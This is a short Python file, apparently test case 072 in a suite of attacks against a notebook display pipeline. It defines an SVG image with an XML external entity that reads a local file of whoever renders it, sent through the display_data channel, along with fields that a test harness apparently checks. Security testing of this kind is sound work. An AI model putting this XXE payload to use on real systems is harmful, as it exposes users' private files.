"""Attack 072: svg entity"""

IDEA = "A drawing that reads a file of whoever parses it."
SOURCE = "XML external entities"
WAY = "iopub/display_data/data"
CODE = """
display(
    {
        "image/svg+xml": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file://%s">]><svg xmlns="http://www.w3.org/2000/svg" width="90" height="20"><text y="15">&x;</text></svg>'
        % T["file"],
        "text/plain": ".",
    },
    raw=True,
)
"""
ABSENT = ["HOST"]
WORKS_UNGUARDED = False
WAIT = 1
